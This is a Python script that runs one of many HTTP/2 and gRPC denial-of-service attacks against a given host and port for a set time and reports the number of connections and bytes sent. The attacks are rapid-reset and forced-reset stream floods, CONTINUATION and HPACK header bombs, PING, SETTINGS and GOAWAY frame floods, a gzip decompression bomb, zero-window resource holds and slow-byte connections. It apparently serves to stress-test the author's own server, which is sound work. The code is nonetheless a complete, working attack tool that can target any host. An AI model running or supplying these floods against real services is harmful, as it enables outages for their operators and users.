#!/usr/bin/python3
"""attackers.py NAME HOST PORT SECONDS CONNECTIONS: one attack for so long; prints what has become of its connections.

An attacker never reads unless it says so, and comes again when it is closed. A flood is a function of a table below that
yields bytes without end; a slow one is a few bytes of which one is sent each second.
"""

import contextlib
import gzip
import itertools
import json
import select
import selectors
import socket
import sys
import threading
import time

import cores
from wire import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, WINDOW_MAX, block, call,
                  data, frame, message, preface, reset, settings, window_update)

ATTACKS = {}
_BATCH = 100  # of streams
_STREAMS_MAX = 1000  # that the server lets a connection open


def attack(make):
    ATTACKS[make.__name__] = make
    return make


def on_streams(make):
    """`make(stream)` for each stream that there is, in batches."""
    for first in itertools.count(1, 2 * _BATCH):
        yield b"".join(make(stream) for stream in range(first, first + 2 * _BATCH, 2))


def again(parts, size=64 * 1024):
    chunk = parts * (size // len(parts) + 1)
    while True:
        yield chunk


def headers(stream, encoded, flags=0):
    return frame(HEADERS, END_HEADERS | flags, stream, encoded)


# ---- streams that are opened to be given up ----

@attack
def rapid_reset():
    encoded = block("Talk")
    yield from on_streams(lambda stream: headers(stream, encoded) + reset(stream))


@attack
def rapid_reset_with_short_timeouts():
    """A reset of a call that is out of time may be our doing; this client sees to it that all are."""
    encoded = block("Talk", ("grpc-timeout", "1m"))
    yield from on_streams(lambda stream: headers(stream, encoded) + reset(stream))


@attack
def late_resets():
    """Where half of their time-outs is over, more calls may be cancelled; this client waits for that, and no longer."""
    encoded = block("Talk", ("grpc-timeout", "40m"))
    for first in itertools.count(1, 2 * _STREAMS_MAX):
        streams = range(first, first + 2 * _STREAMS_MAX, 2)
        yield b"".join(headers(stream, encoded) for stream in streams)
        time.sleep(0.022)
        yield b"".join(reset(stream) for stream in streams)


@attack
def made_you_reset_by_window_update():
    encoded = block("Talk")
    yield from on_streams(lambda stream: headers(stream, encoded) + window_update(stream, WINDOW_MAX))


@attack
def made_you_reset_by_initial_window():
    """One SETTINGS frame makes the windows of a hundred streams overflow."""
    encoded = block("Talk")
    yield settings(initial_window=1000)
    for batch in on_streams(lambda stream: headers(stream, encoded) + window_update(stream, WINDOW_MAX - 1000)):
        yield batch + settings(initial_window=2000) + settings(initial_window=1000)


@attack
def made_you_reset_by_content_length():
    encoded = block("Echo", ("content-length", "10"))
    yield from on_streams(lambda stream: headers(stream, encoded) + data(stream, b"x"))


@attack
def made_you_reset_by_data_beyond_the_window():
    """Of calls that take one message and no more; who has not acknowledged our settings has windows of 64 KiB."""
    encoded, more = block("Pause"), message(b"") + bytes(2**16)
    yield from on_streams(lambda stream: headers(stream, encoded) + data(stream, more, flags=0))


@attack
def made_you_reset_by_malformed_headers():
    encoded = block("Echo", without=(":path",))
    yield from on_streams(lambda stream: headers(stream, encoded))


@attack
def made_you_reset_by_malformed_trailers():
    encoded, trailers = block("Talk"), b"\x82"  # :method
    yield from on_streams(lambda stream: headers(stream, encoded) + headers(stream, trailers, END_STREAM))


@attack
def made_you_reset_by_refused_streams():
    """Who has not acknowledged our settings may open any number of streams, and those above the limit are refused."""
    encoded = block("Talk")
    yield from on_streams(lambda stream: headers(stream, encoded))


@attack
def made_you_reset_by_early_answers():
    """An answer before the end of the request is followed by a reset, if one without an error."""
    encoded = block("NoSuchMethod")
    yield from on_streams(lambda stream: headers(stream, encoded))


# ---- header blocks ----

@attack
def continuation_flood():
    yield frame(HEADERS, 0, 1, block("Talk"))
    yield from again(frame(CONTINUATION, 0, 1, b"\x90" * 50))


@attack
def one_byte_header_flood():
    yield frame(HEADERS, 0, 1, b"\x82")
    yield from again(frame(CONTINUATION, 0, 1, b"\x90"))


@attack
def hpack_bomb():
    """Four kilobytes that are put into the table once and named by a byte each."""
    large = b"\x40\x01a\x7f\xa1\x1e" + b"v" * 4000
    yield headers(1, block("Talk") + large)
    encoded = block("Talk") + b"\xbe" * 900
    yield from on_streams(lambda stream: headers(stream + 2, encoded))


@attack
def header_lists_over_the_limit():
    encoded = block("Talk") + b"\x90" * 200
    yield from on_streams(lambda stream: headers(stream, encoded))


# ---- frames that ask for work ----

@attack
def ping_flood():
    yield from again(frame(PING, 0, 0, b"12345678"))


@attack
def ping_answer_flood():
    """To nobody's question."""
    yield from again(frame(PING, ACK, 0, b"12345678"))


@attack
def unknown_frame_flood():
    """Of a type that must be ignored."""
    yield from again(frame(0x42, 0, 0))


@attack
def settings_flood():
    yield from again(settings())


@attack
def window_update_flood():
    yield from again(window_update(0, 1))


@attack
def priority_flood():
    yield from again(b"".join(frame(PRIORITY, 0, stream, b"\0\0\0\0\x10") for stream in range(1, 2001, 2)))


@attack
def empty_data_flood():
    yield headers(1, block("Talk"))
    yield from again(frame(DATA, 0, 1))


@attack
def goaway_flood():
    """With a call open: without one the first of them is the end."""
    yield headers(1, block("Talk"))
    yield from again(frame(GOAWAY, 0, 0, bytes(8)))


# ---- frames for streams that have ended ----

_FORGOTTEN = range(1, 2 * _BATCH, 2)


def end_streams():
    """And more behind them, because the server remembers the latest."""
    encoded = block("Talk")
    return b"".join(headers(stream, encoded) + reset(stream) for stream in range(1, 4 * _BATCH, 2))


@attack
def window_updates_for_ended_streams():
    yield end_streams()
    yield from again(b"".join(window_update(stream, 1) for stream in _FORGOTTEN))


@attack
def data_for_ended_streams():
    """Without a byte, which windows do not bound."""
    yield end_streams()
    yield from again(b"".join(frame(DATA, 0, stream) for stream in _FORGOTTEN))


# ---- requests that nobody ends ----

@attack
def requests_that_do_not_end():
    """64 KiB of a megabyte on each of all streams."""
    encoded, part = block("Echo"), (2**20).to_bytes(5, "big") + bytes(2**16 - 5)
    yield from on_streams(lambda stream: headers(stream, encoded) + data(stream, part, flags=0))


# ---- answers that nobody takes ----

@attack
def zero_window():
    """256 answers of 100 kB behind windows of nothing, and then nothing more."""
    encoded, body = block("Raw"), message(b"x" * 100_000)
    yield settings(initial_window=0)
    for stream in range(1, 513, 2):
        yield call(stream, encoded, body)


@attack
def answers_without_reading():
    """The windows are open, but nothing is read from the socket."""
    encoded, body = block("Count"), message(b"100000000")
    yield settings(initial_window=WINDOW_MAX) + window_update(0, 2**30)
    yield b"".join(call(stream, encoded, body) for stream in range(1, 33, 2))


@attack
def gzip_bomb():
    """Each request is ten megabytes of the same letter, in ten kilobytes."""
    encoded = block("Echo", ("grpc-encoding", "gzip"))
    packed = gzip.compress(b"\x0a\x80\xad\xe2\x04" + b"x" * 10_000_000)
    body = b"\x01" + len(packed).to_bytes(4, "big") + packed
    yield from on_streams(lambda stream: call(stream, encoded, body))


# Names of floods whose connections read and drop what comes, so that the server is never held up by them.
READING = {"made_you_reset_by_early_answers", "gzip_bomb", "hpack_bomb", "header_lists_over_the_limit"}

# What is sent one byte each second, on a thousand connections.
SLOW = {
    "slow_preface": preface(),
    "slow_headers": preface() + frame(HEADERS, END_HEADERS, 1, block("Echo")),
    "slow_body": preface() + headers(1, block("Echo")) + data(1, message(b"x" * 1000)),
}
_AT_ONCE = {  # how much of it is sent at once
    "slow_preface": 0,
    "slow_headers": len(preface()) + 12,
    "slow_body": len(preface()) + len(headers(1, block("Echo"))) + 12,
}

# Connections that are left as they are.
HELD = {
    "half_open": (b"", socket.SHUT_WR),  # the client has ended its side, and stays
    "silent": (b"", None),
    "never_closing": (preface(), None),
}


class Tally:
    def __init__(self):
        self._lock = threading.Lock()
        self.seen = {"connections": 0, "closed": 0, "sent_bytes": 0}

    def add(self, **numbers):
        with self._lock:
            for name, number in numbers.items():
                self.seen[name] += number


class Flooder(threading.Thread):
    def __init__(self, name, address, until, tally):
        super().__init__()
        self._name, self._address, self._until, self._tally = name, address, until, tally

    def run(self):
        while time.monotonic() < self._until:
            try:
                with socket.create_connection(self._address, 5) as connection:
                    self._tally.add(connections=1)
                    self._flood(connection)
                self._tally.add(closed=1)
            except OSError:
                time.sleep(0.01)

    def _flood(self, connection):
        """Returns when the server has closed the connection; raises at the end of the time."""
        connection.setblocking(False)
        for part in itertools.chain([preface()], ATTACKS[self._name]()):
            if not self._send(connection, memoryview(part)):
                return
        while self._is_open(connection):
            self._check_time()

    def _check_time(self):
        if time.monotonic() >= self._until:
            raise OSError("over")

    def _send(self, connection, part):
        while part:
            self._check_time()
            try:
                sent = connection.send(part)
                self._tally.add(sent_bytes=sent)
                part = part[sent:]
            except BlockingIOError:
                select.select([], [connection], [], 0.1)
            except OSError:
                return False
            if self._name in READING and not self._drop_answers(connection):
                return False
        return True

    @staticmethod
    def _drop_answers(connection):
        try:
            return connection.recv(1 << 20) != b""
        except BlockingIOError:
            return True
        except OSError:
            return False

    @staticmethod
    def _is_open(connection):
        """Without reading what has come."""
        time.sleep(0.05)
        return connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1) == b"\x01"


def flood(name, address, until, connections, tally):
    flooders = [Flooder(name, address, until, tally) for _ in range(connections)]
    for flooder in flooders:
        flooder.start()
    for flooder in flooders:
        flooder.join()


class Crowd:
    """Connections that do next to nothing; who is closed comes again."""

    def __init__(self, address, tally):
        self._address, self._tally = address, tally
        self._selector = selectors.DefaultSelector()
        self.members = {}

    def join(self, first_bytes, shutdown=None):
        connection = socket.create_connection(self._address, 10)
        connection.setblocking(False)
        self._tally.add(connections=1, sent_bytes=len(first_bytes))
        with contextlib.suppress(OSError):
            connection.send(first_bytes)
            if shutdown is not None:
                connection.shutdown(shutdown)
        self._selector.register(connection, selectors.EVENT_READ)
        self.members[connection] = len(first_bytes)

    def drop_closed(self, seconds):
        """Returns how many have gone."""
        gone, until = 0, time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            for key, _ in self._selector.select(left):
                gone += self._take(key.fileobj)
        return gone

    def _take(self, connection):
        try:
            if connection.recv(65536):
                return 0
        except BlockingIOError:
            return 0
        except OSError:
            pass
        self._selector.unregister(connection)
        del self.members[connection]
        connection.close()
        self._tally.add(closed=1)
        return 1

    def send_one_byte_each(self, whole):
        for connection, sent in list(self.members.items()):
            with contextlib.suppress(OSError):
                connection.send(whole[sent:sent + 1])
                self.members[connection] = sent + 1


def crowd(name, address, until, connections, tally):
    whole, shutdown = (SLOW[name], None) if name in SLOW else HELD[name]
    first_bytes = whole[:_AT_ONCE[name]] if name in SLOW else whole
    people, missing = Crowd(address, tally), connections
    while time.monotonic() < until:
        for _ in range(missing):
            people.join(first_bytes, shutdown)
        missing = people.drop_closed(min(1, max(0.01, until - time.monotonic())))
        if name in SLOW:
            people.send_one_byte_each(whole)


def main(name, host, port, seconds, connections):
    cores.give_way()
    tally, address = Tally(), (host, int(port))
    until = time.monotonic() + float(seconds)
    run = flood if name in ATTACKS else crowd
    run(name, address, until, int(connections), tally)
    print(json.dumps(tally.seen))


if __name__ == "__main__":
    main(*sys.argv[1:])
